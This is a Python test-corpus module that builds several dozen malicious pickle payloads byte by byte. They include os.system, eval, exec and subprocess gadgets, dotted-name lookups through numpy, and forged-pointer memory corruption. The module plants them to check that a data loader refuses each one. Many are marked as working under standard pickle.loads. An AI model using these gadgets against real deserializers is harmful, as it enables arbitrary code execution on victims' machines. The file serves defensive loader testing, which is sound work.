"""Known pickle attacks, assembled opcode by opcode (never by pickling a live gadget).

Each attack, if a loader ran it, would create its ``sentinel`` file (or, for the few that
attack the loader's own state rather than run a command, leave a trace that
``tests/test_pickle_attacks.py`` checks). ``real`` marks the attacks that do run their
payload under the standard, unrestricted ``pickle.loads``: the tests prove that on a
throw-away subprocess, so that the corpus is made of working attacks.

The corpus generator at the bottom runs every attack through ``trackverify stage`` and
``trackverify conversion check`` (submission side) and a few through the reference and
ground-truth sides: each must be refused, and the sentinel, written inside an input folder,
must not appear (the corpus test hashes every input before and after).
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.corpus.make_corpus import Case, generator

# ---- a tiny pickle assembler ----------------------------------------------------------------

PROTO2, PROTO4, PROTO5 = b"\x80\x02", b"\x80\x04", b"\x80\x05"
MARK, STOP, TUPLE, EMPTY_TUPLE = b"(", b".", b"t", b")"
TUPLE1, TUPLE2, TUPLE3 = b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, NONE, TRUE, FALSE = b"R", b"b", b"N", b"\x88", b"\x89"
EMPTY_DICT, EMPTY_LIST, APPENDS, SETITEMS = b"}", b"]", b"e", b"u"
STACK_GLOBAL, OBJ, NEWOBJ, NEWOBJ_EX = b"\x93", b"o", b"\x81", b"\x92"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    data = value.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    """SHORT_BINBYTES or BINBYTES."""
    return (b"C" + bytes([len(value)]) if len(value) < 256
            else b"B" + struct.pack("<I", len(value))) + value


def integer(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + STACK_GLOBAL


def global_op(module: str, name: str) -> bytes:
    """The GLOBAL opcode: ``c<module>\\n<name>\\n``."""
    return b"c" + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` through REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def str_list(*items: str) -> bytes:
    return EMPTY_LIST + MARK + b"".join(text(i) for i in items) + APPENDS


def program(body: bytes, proto: bytes = PROTO4) -> bytes:
    return proto + body + STOP


def _expr(sentinel: Path) -> str:
    return f"__import__('os').system('touch {sentinel}')"


def _code(sentinel: Path) -> str:
    return f"open({str(sentinel)!r}, 'w').close()"


def _cmd(sentinel: Path) -> str:
    return f"touch {sentinel}"


def _os_system_pickle(sentinel: Path) -> bytes:
    return program(call(global_op("os", "system"), text(_cmd(sentinel))), PROTO2)


def _numpy_array_skeleton() -> bytes:
    return call(stack_global("numpy._core.multiarray", "_reconstruct"),
                stack_global("numpy", "ndarray"), integer(0) + TUPLE1, raw(b"b"))


def _dtype(spec: str, state: bytes, copy: bytes = TRUE) -> bytes:
    return call(stack_global("numpy", "dtype"), text(spec), FALSE, copy) + state + BUILD


def _dtype_state(order: str, elsize: int = -1, alignment: int = -1, flags: int = 0,
                 names: bytes = NONE, fields: bytes = NONE) -> bytes:
    return (MARK + integer(3) + text(order) + NONE + names + fields + integer(elsize)
            + integer(alignment) + integer(flags) + TUPLE)


OBJECT_DTYPE = _dtype("O8", _dtype_state("|", flags=63))


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Path], bytes]  # sentinel -> pickle bytes
    real: bool = False  # runs its payload under the standard pickle.loads
    extra: Callable[[Path], dict[str, bytes]] = field(default=lambda s: {})  # beside the sentinel


ATTACKS: list[Attack] = [
    # -- dotted names (protocol 4 resolves them in the standard loader)
    Attack("issue_numpy_dtypes_builtins_get", lambda s: PROTO4 + text("numpy.dtypes")
           + text("__builtins__.get") + STACK_GLOBAL + text("eval") + TUPLE1 + REDUCE
           + text(_expr(s)) + TUPLE1 + REDUCE + STOP, real=True),
    Attack("dotted_global_opcode_protocol4", lambda s: program(call(call(
        global_op("numpy.dtypes", "__builtins__.get"), text("eval")), text(_expr(s)))), real=True),
    Attack("dotted_numpy_testing_runstring", lambda s: program(call(
        stack_global("numpy", "testing.runstring"), text(_code(s)), EMPTY_DICT)), real=True),
    Attack("dotted_through_admitted_class", lambda s: program(call(call(
        stack_global("numpy", "ndarray.__init__.__globals__.get"), text("__builtins__")))),
        ),
    Attack("dotted_admitted_reconstruct_self", lambda s: program(
        stack_global("numpy._core.multiarray", "_reconstruct.__self__"))),
    # -- plain gadgets by exact name
    Attack("global_builtins_eval", lambda s: program(
        call(global_op("builtins", "eval"), text(_expr(s))), PROTO2), real=True),
    Attack("global___builtin___eval_protocol0", lambda s: b"c__builtin__\neval\n(V"
           + _expr(s).encode() + b"\ntR.", real=True),
    Attack("builtins_exec", lambda s: program(
        call(stack_global("builtins", "exec"), text(_code(s)))), real=True),
    Attack("os_system", lambda s: _os_system_pickle(s), real=True),
    Attack("posix_system", lambda s: program(
        call(stack_global("posix", "system"), text(_cmd(s)))), real=True),
    Attack("builtins_getattr_import", lambda s: program(call(call(
        stack_global("builtins", "getattr"),
        call(stack_global("builtins", "__import__"), text("os")), text("system")),
        text(_cmd(s)))), real=True),
    Attack("copyreg_reconstructor_popen", lambda s: program(call(
        stack_global("copyreg", "_reconstructor"), stack_global("subprocess", "Popen"),
        stack_global("subprocess", "Popen"), str_list("touch", str(s)))), real=True),
    Attack("functools_partial", lambda s: program(call(call(
        stack_global("functools", "partial"), stack_global("os", "system"),
        text(_cmd(s))))), real=True),
    Attack("operator_attrgetter", lambda s: program(call(call(call(
        stack_global("operator", "attrgetter"), text("system")),
        call(stack_global("builtins", "__import__"), text("os"))), text(_cmd(s)))), real=True),
    Attack("operator_methodcaller", lambda s: program(call(call(
        stack_global("operator", "methodcaller"), text("system"), text(_cmd(s))),
        call(stack_global("importlib", "import_module"), text("os")))), real=True),
    Attack("pickle_loads_nested", lambda s: program(call(
        stack_global("pickle", "loads"), raw(_os_system_pickle(s)))), real=True),
    Attack("numpy_load_allow_pickle", lambda s: program(call(
        stack_global("numpy", "load"), text(str(s.with_name("evil.npy"))), NONE, TRUE)),
        real=True, extra=lambda s: {"evil.npy": _os_system_pickle(s)}),
    Attack("numpy_testing_runstring", lambda s: program(call(
        stack_global("numpy.testing", "runstring"), text(_code(s)), EMPTY_DICT)), real=True),
    Attack("numpy_lib_npyio_load", lambda s: program(call(
        stack_global("numpy.lib.npyio", "load"), text(str(s.with_name("evil.npy"))),
        NONE, TRUE)), extra=lambda s: {"evil.npy": _os_system_pickle(s)}),
    Attack("numpy_dtypes_module_attribute", lambda s: program(
        stack_global("numpy.dtypes", "__builtins__"))),
    # -- opcodes that call or look up without REDUCE
    Attack("inst_opcode", lambda s: b"(V" + _cmd(s).encode() + b"\nios\nsystem\n.", real=True),
    Attack("obj_opcode", lambda s: program(MARK + stack_global("os", "system")
                                          + text(_cmd(s)) + OBJ), real=True),
    Attack("newobj_on_admitted_ndarray", lambda s: program(
        stack_global("numpy", "ndarray") + integer(4) + TUPLE1 + TUPLE1 + NEWOBJ)),
    Attack("newobj_ex_on_admitted_ndarray", lambda s: program(
        stack_global("numpy", "ndarray") + integer(4) + TUPLE1 + TUPLE1 + EMPTY_DICT
        + NEWOBJ_EX)),
    Attack("persistent_id", lambda s: b"P" + str(s).encode() + b"\n."),
    Attack("binary_persistent_id", lambda s: program(text(str(s)) + b"Q")),
    Attack("extension_registry", lambda s: program(b"\x82\x01")),
    # -- GLOBAL tricks: newline, NUL, spaces, non-text names
    Attack("global_name_with_nul", lambda s: b"cnumpy\ndtype\x00os.system\n."),
    Attack("global_name_trailing_space", lambda s: b"cnumpy\ndtype \n."),
    Attack("global_module_carriage_return", lambda s: b"cos\r\nsystem\n(V" + _cmd(s).encode()
           + b"\ntR."),
    Attack("global_crlf_builtins_eval", lambda s: b"cbuiltins\r\neval\r\n(V" + _expr(s).encode()
           + b"\ntR."),
    Attack("stack_global_non_text", lambda s: program(integer(1) + integer(2) + STACK_GLOBAL)),
    # -- admitted callables with arguments numpy never writes
    Attack("reduce_on_ndarray_class", lambda s: program(call(
        stack_global("numpy", "ndarray"), integer(1 << 30) + TUPLE1))),
    Attack("reduce_on_a_built_array", lambda s: program(call(_numpy_array_skeleton()))),
    Attack("reconstruct_other_subtype", lambda s: program(call(
        stack_global("numpy._core.multiarray", "_reconstruct"),
        stack_global("collections", "OrderedDict"), integer(0) + TUPLE1, raw(b"b")))),
    Attack("dtype_shared_descriptor_altered", lambda s: program(
        _dtype("f8", _dtype_state(">"), copy=FALSE))),
    Attack("dtype_structured_object_field", lambda s: program(_dtype(
        "V8", _dtype_state("|", 8, 1, 63, names=text("a") + TUPLE1,
                           fields=EMPTY_DICT + text("a") + OBJECT_DTYPE + integer(3)
                           + TUPLE2 + b"s")))),
    # a dtype state that hides its object field (flags 0), then raw bytes as the object
    # pointer: the previous loader admitted both, and reading the element crashed the
    # interpreter (a forged pointer: memory corruption, not a refusal)
    Attack("forged_object_pointer_in_structured_dtype", lambda s: program(
        _numpy_array_skeleton() + MARK + integer(1) + integer(1) + TUPLE1 + _dtype(
            "V8", _dtype_state("|", 8, 1, 0, names=text("a") + TUPLE1,
                               fields=EMPTY_DICT + text("a") + OBJECT_DTYPE + integer(0)
                               + TUPLE2 + b"s")) + FALSE + raw(b"\x41" * 8) + TUPLE + BUILD)),
    Attack("forged_object_pointer_flags_hidden", lambda s: program(
        _numpy_array_skeleton() + MARK + integer(1) + integer(1) + TUPLE1
        + _dtype("O8", _dtype_state("|", flags=0)) + FALSE + raw(b"\x41" * 8) + TUPLE + BUILD)),
    Attack("dtype_odd_spec", lambda s: program(call(
        stack_global("numpy", "dtype"), text("f8,O"), FALSE, TRUE))),
    Attack("dtype_state_other_size", lambda s: program(
        _dtype("U1", _dtype_state("<", 4096, 4, 8)))),
    Attack("scalar_of_object_dtype_nested_reduce", lambda s: program(call(
        stack_global("numpy._core.multiarray", "scalar"), OBJECT_DTYPE,
        call(stack_global("os", "system"), text(_cmd(s))))), real=True),
    Attack("codecs_encode_other_codec", lambda s: program(call(
        stack_global("_codecs", "encode"), text("x"), text("rot13")))),
    # -- BUILD on admitted objects
    Attack("build_object_array_with_nested_attack", lambda s: program(
        _numpy_array_skeleton() + MARK + integer(1) + integer(1) + TUPLE1 + OBJECT_DTYPE
        + FALSE + EMPTY_LIST + MARK + call(stack_global("os", "system"), text(_cmd(s)))
        + APPENDS + TUPLE + BUILD), real=True),
    Attack("build_object_array_from_raw_bytes", lambda s: program(
        _numpy_array_skeleton() + MARK + integer(1) + integer(1) + TUPLE1 + OBJECT_DTYPE
        + FALSE + raw(b"\x41" * 8) + TUPLE + BUILD)),
    Attack("build_array_short_data", lambda s: program(
        _numpy_array_skeleton() + MARK + integer(1) + integer(1 << 20) + TUPLE1
        + _dtype("f8", _dtype_state("<")) + FALSE + raw(b"\x00" * 8) + TUPLE + BUILD)),
    Attack("build_on_admitted_class", lambda s: program(
        stack_global("numpy", "ndarray") + EMPTY_DICT + text("__reduce__")
        + stack_global("builtins", "eval") + b"s" + BUILD)),
    Attack("build_slots_on_admitted_callable", lambda s: program(
        stack_global("numpy", "dtype") + NONE + EMPTY_DICT + text("__defaults__")
        + text("O8") + TUPLE1 + b"s" + TUPLE2 + BUILD)),
    Attack("build_on_a_dict", lambda s: program(
        EMPTY_DICT + EMPTY_DICT + text("__class__") + NONE + b"s" + BUILD)),
    Attack("setitems_on_admitted_callable", lambda s: program(
        stack_global("collections", "OrderedDict") + MARK + text("k") + text("v") + SETITEMS)),
    Attack("appends_on_an_array", lambda s: program(
        _numpy_array_skeleton() + MARK + integer(1) + APPENDS)),
]
"""Every attack: ``build(sentinel)`` gives the pickle; ``extra(sentinel)`` files beside it."""

# Attacks run through every reader side, not only the submission's.
ALL_SIDES = ("issue_numpy_dtypes_builtins_get", "copyreg_reconstructor_popen",
             "build_object_array_with_nested_attack", "numpy_load_allow_pickle")


def _plant(folder: Path, filename: str, attack: Attack) -> Path:
    """Write ``attack`` as ``folder / filename`` (and its extra files); return the sentinel."""
    folder.mkdir(parents=True, exist_ok=True)
    sentinel = folder / "EXECUTED"
    for name, data in attack.extra(sentinel).items():
        (folder / name).write_bytes(data)
    (folder / filename).write_bytes(attack.build(sentinel))
    return sentinel


@generator
def pickle_attack_cases(root: Path) -> list[Case]:
    """Each attack as a stage trajectory and a converted dataset (submission side), and the
    attacks of :data:`ALL_SIDES` also as a reference, a ground truth and a features file."""
    from tests.corpus import conversion_cases as conv
    from tests.corpus import stage_cases as stage
    from trackverify.conversion import synthetic as C

    world = stage._world()
    for role in ("ref", "gt", "sub"):
        stage._write_files(root / "stage_world" / role, world[role])
    data = C.make_dataset(C.SyntheticSpec(n_sessions=2, n_trials=4, n_neurons=4, n_bins=5))
    valid_submission = C.write_submission(root / "attack_conversion_world" / "submission", data)
    cases = []
    for attack in ATTACKS:
        sides = ["sub"] + (["ref", "gt", "features"] if attack.name in ALL_SIDES else [])
        for side in sides:
            role = "sub" if side == "features" else side
            the_stage = "features" if side == "features" else "body-tracking"
            rel = stage.STAGE_FILE[the_stage]
            label = f"attack_{attack.name}" + ("_features" if side == "features" else "")
            case = stage._stage_case(root, world, the_stage, label, rel, b"", "unsafe", role)
            folder = Path(case.args[case.args.index({"sub": "--submission", "ref": "--reference",
                                                      "gt": "--ground-truth"}[role]) + 1])
            _plant((folder / rel).parent, Path(rel).name, attack)
            cases.append(case)
        name = f"conversion_attack_{attack.name}"
        submission = C.write_submission(root / name / "submission", data)
        _plant(submission, conv.DATA, attack)
        cases.append(conv._check(root, name, submission, 1, ['"unsafe']))
        if attack.name in ALL_SIDES:
            name = f"conversion_reference_attack_{attack.name}"
            reference = root / name / "reference" / conv.DATA
            _plant(reference.parent, conv.DATA, attack)
            cases.append(conv._check(root, name, valid_submission, 2,
                                     [str(reference), "unsafe"], reference))
    return cases
